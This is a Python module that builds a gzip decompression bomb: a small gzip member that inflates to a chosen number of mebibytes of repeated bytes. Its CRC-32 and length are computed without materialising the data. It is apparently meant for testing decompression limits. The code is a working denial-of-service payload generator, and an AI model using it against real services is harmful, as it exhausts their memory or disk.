"""A small gzip file that decodes to much, made without ever holding the much."""

from __future__ import annotations

import functools
import struct
import zlib
from typing import Final

__all__ = ["BLOCK", "gzip_bomb"]

BLOCK: Final = 1 << 20
"""Bytes of one repeated block."""
_POLYNOMIAL: Final = 0xEDB88320
"""That of gzip's CRC-32, lowest bit first (RFC 1952, section 8)."""
_ONE: Final = 1 << 31
_BYTE: Final = 1 << 23
"""x^8 in the same order of bits: what one byte more multiplies a CRC by."""


@functools.lru_cache(maxsize=2)
def gzip_bomb(head: bytes, blocks: int, tail: bytes) -> bytes:
    """One gzip member of ``head``, ``blocks`` MiB of the letter a and ``tail``: 1 KB for 1 MiB."""
    block = b"a" * BLOCK
    crc = zlib.crc32(head)
    block_crc = zlib.crc32(block)
    shift = _power(BLOCK)
    for _ in range(blocks):
        crc = _times(shift, crc) ^ block_crc
    crc = zlib.crc32(tail, crc)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    # After a full flush nothing refers back, so the block's bytes may be repeated as they are.
    first = deflate.compress(head) + deflate.flush(zlib.Z_FULL_FLUSH)
    middle = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    last = deflate.compress(tail) + deflate.flush(zlib.Z_FINISH)
    size = (len(head) + blocks * BLOCK + len(tail)) & 0xFFFFFFFF
    start = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return b"".join((start, first, middle * blocks, last, struct.pack("<II", crc, size)))


def _times(a: int, b: int) -> int:
    """The product of two polynomials over GF(2), modulo that of the CRC."""
    product = 0
    while a:
        if a & _ONE:
            product ^= b
        a = (a << 1) & 0xFFFFFFFF
        b = (b >> 1) ^ (_POLYNOMIAL if b & 1 else 0)
    return product


def _power(count: int) -> int:
    """What ``count`` bytes more multiply a CRC by."""
    product, base = _ONE, _BYTE
    while count:
        if count & 1:
            product = _times(base, product)
        base = _times(base, base)
        count >>= 1
    return product
